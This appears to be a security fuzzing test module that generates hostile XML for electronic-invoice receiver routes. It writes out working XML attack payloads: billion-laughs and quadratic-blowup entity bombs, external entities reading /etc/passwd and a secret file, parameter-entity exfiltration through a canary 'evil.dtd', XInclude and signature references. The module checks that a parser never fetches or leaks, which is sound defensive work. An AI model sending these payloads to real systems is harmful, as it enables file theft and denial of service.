import fc from 'fast-check';
import { HOSTILE_STRINGS, INVALID_UTF8, short } from './mutations.js';

/**
 * Hostile XML for the receiver routes: entity bombs, external entities and
 * DTDs pointing at a file and at the canary server, XInclude, schema and
 * stylesheet locations, nesting and attribute floods, and broken documents.
 * `valid` is a real document of the route (a signed e-CF, ACECF or seed),
 * so the hostile parts sit where a parser would meet them in practice.
 */
export interface XmlTargets {
  /** Loopback URL of the canary server: a hit there is an external fetch. */
  readonly canaryUrl: string;
  /** A file whose content must never come back. */
  readonly secretPath: string;
}

const declaration = /^(\uFEFF)?<\?xml[^>]*\?>/;

/** The document with a DOCTYPE (internal subset) before its root and `reference` as the text of its first leaf element. */
export function withDoctype(valid: string, subset: string, reference: string): string {
  const root = /<([A-Za-z_][\w.-]*)/.exec(valid.replace(declaration, ''))?.[1] ?? 'ECF';
  const decl = declaration.exec(valid)?.[0] ?? '<?xml version="1.0" encoding="utf-8"?>';
  const body = valid.replace(declaration, '');
  // The first element that holds only text: a reference there is read, stored or echoed if expanded.
  const leaf = /<([A-Za-z][\w.-]*)>([^<]*)<\/\1>/.exec(body);
  const edited = leaf ? body.replace(leaf[0], `<${leaf[1]}>${reference}</${leaf[1]}>`) : body;
  return `${decl}<!DOCTYPE ${root} [${subset}]>${edited}`;
}

export function hostileDocuments(valid: string, targets: XmlTargets): { label: string; xml: string | Buffer }[] {
  const { canaryUrl, secretPath } = targets;
  const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
  const blow = `<!ENTITY a "${'x'.repeat(50_000)}">`;
  const root = /<([A-Za-z_][\w.-]*)/.exec(valid.replace(declaration, ''))?.[1] ?? 'ECF';
  const body = valid.replace(declaration, '');
  return [
    { label: 'billion laughs', xml: withDoctype(valid, laughs, '&lol9;') },
    { label: 'billion laughs alone', xml: `<?xml version="1.0"?><!DOCTYPE lolz [${laughs}]><lolz>&lol9;</lolz>` },
    { label: 'billion laughs in an attribute', xml: `<?xml version="1.0"?><!DOCTYPE ${root} [${laughs}]>${body.replace(`<${root}`, `<${root} a="&lol9;"`)}` },
    { label: 'quadratic blowup', xml: withDoctype(valid, blow, '&a;'.repeat(2_000)) },
    { label: 'external entity /etc/passwd', xml: withDoctype(valid, '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;') },
    { label: 'external entity secret file', xml: withDoctype(valid, `<!ENTITY xxe SYSTEM "file://${secretPath}">`, '&xxe;') },
    { label: 'external entity relative path', xml: withDoctype(valid, '<!ENTITY xxe SYSTEM "../../../../../../etc/passwd">', '&xxe;') },
    { label: 'external entity over http', xml: withDoctype(valid, `<!ENTITY xxe SYSTEM "${canaryUrl}/entity">`, '&xxe;') },
    { label: 'external parameter entity', xml: withDoctype(valid, `<!ENTITY % p SYSTEM "${canaryUrl}/parameter.dtd"> %p;`, '&leak;') },
    { label: 'parameter entity exfiltration', xml: withDoctype(valid, `<!ENTITY % file SYSTEM "file://${secretPath}"><!ENTITY % dtd SYSTEM "${canaryUrl}/evil.dtd"> %dtd;`, 'x') },
    { label: 'external DTD', xml: `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE ${root} SYSTEM "${canaryUrl}/external.dtd">${body}` },
    { label: 'public external DTD', xml: `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE ${root} PUBLIC "-//X//Y" "${canaryUrl}/public.dtd">${body}` },
    { label: 'XInclude of a file', xml: body.replace(/(<[A-Za-z][\w.-]*>)([^<]*)(<\/)/, `$1<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secretPath}" parse="text"/>$3`) },
    { label: 'XInclude over http', xml: body.replace(/(<[A-Za-z][\w.-]*>)([^<]*)(<\/)/, `$1<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canaryUrl}/xinclude"/>$3`) },
    { label: 'schema location', xml: body.replace(`<${root}`, `<${root} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${canaryUrl}/schema.xsd"`) },
    { label: 'stylesheet', xml: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canaryUrl}/style.xsl"?>${body}` },
    { label: 'signature key by reference', xml: body.replace(/<KeyInfo>[\s\S]*?<\/KeyInfo>/, `<KeyInfo><RetrievalMethod URI="${canaryUrl}/key"/></KeyInfo>`) },
    { label: 'signature reference elsewhere', xml: body.replace('URI=""', `URI="${canaryUrl}/reference"`) },
    { label: 'signature reference to a file', xml: body.replace('URI=""', `URI="file://${secretPath}"`) },
    { label: 'undeclared entity', xml: withDoctype(valid, '', '&nope;') },
    { label: 'entity loop', xml: withDoctype(valid, '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;') },
    { label: '100,000 nested elements', xml: `<?xml version="1.0"?><${root}>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</${root}>` },
    { label: '50,000 attributes', xml: `<?xml version="1.0"?><${root} ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(' ')}/>` },
    { label: '1 MB of text', xml: body.replace(/(<[A-Za-z][\w.-]*>)([^<]*)(<\/)/, `$1${'ñ'.repeat(500_000)}$3`) },
    { label: 'over the size limit', xml: body.replace(/(<[A-Za-z][\w.-]*>)([^<]*)(<\/)/, `$1${'x'.repeat(4_200_000)}$3`) },
    { label: 'UTF-16 declared, UTF-8 sent', xml: body.replace(/^/, '<?xml version="1.0" encoding="UTF-16"?>') },
    { label: 'unknown encoding', xml: `<?xml version="1.0" encoding="EBCDIC-XX"?>${body}` },
    { label: 'two BOMs', xml: `\uFEFF\uFEFF${valid}` },
    { label: 'NUL character', xml: body.replace('>', '>\u0000') },
    { label: 'character reference to NUL', xml: body.replace(/(<[A-Za-z][\w.-]*>)([^<]*)(<\/)/, '$1&#0;$3') },
    { label: 'character reference to a surrogate', xml: body.replace(/(<[A-Za-z][\w.-]*>)([^<]*)(<\/)/, '$1&#xD800;$3') },
    { label: 'invalid UTF-8 bytes', xml: Buffer.concat([Buffer.from(body.slice(0, 200)), ...INVALID_UTF8, Buffer.from(body.slice(200))]) },
    { label: 'root only, unclosed', xml: `<${root}>` },
    { label: 'mismatched close', xml: `<${root}></${root.toLowerCase()}x>` },
    { label: 'declaration only', xml: '<?xml version="1.0"?>' },
    { label: 'empty', xml: '' },
    { label: 'one angle bracket', xml: '<' },
    { label: 'CDATA unclosed', xml: `<${root}><![CDATA[` },
    { label: 'DOCTYPE unclosed', xml: `<!DOCTYPE ${root} [` },
    { label: 'two roots', xml: `${body}${body}` },
    { label: 'foreign namespace root', xml: body.replace(`<${root}`, `<x:${root} xmlns:x="urn:evil"`).replace(new RegExp(`</${root}>$`), `</x:${root}>`) },
    { label: 'JSON instead', xml: '{"ECF":{}}' },
  ];
}

/** Mutations of the valid document: a leaf's text replaced (raw or escaped), a cut, an element dropped or repeated. */
export function xmlMutations(valid: string): fc.Arbitrary<{ label: string; xml: string }> {
  const leaves = [...valid.matchAll(/<([A-Za-z][\w.-]*)>([^<]*)<\/\1>/g)].map((m) => ({ tag: m[1]!, at: m.index, whole: m[0] }));
  const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  const leaf = fc.constantFrom(...leaves);
  return fc.oneof(
    fc.tuple(leaf, fc.constantFrom(...HOSTILE_STRINGS), fc.boolean()).map(([l, s, raw]) => ({
      label: `${l.tag} = ${short(s)}${raw ? ' (unescaped)' : ''}`,
      xml: valid.slice(0, l.at) + `<${l.tag}>${raw ? s : escape(s)}</${l.tag}>` + valid.slice(l.at + l.whole.length),
    })),
    fc.nat({ max: valid.length - 1 }).map((cut) => ({ label: `cut at ${cut}`, xml: valid.slice(0, cut) })),
    leaf.map((l) => ({ label: `${l.tag} removed`, xml: valid.slice(0, l.at) + valid.slice(l.at + l.whole.length) })),
    leaf.map((l) => ({ label: `${l.tag} twice`, xml: valid.slice(0, l.at) + l.whole + valid.slice(l.at) })),
    fc.constant({ label: 'valid document', xml: valid }),
  );
}
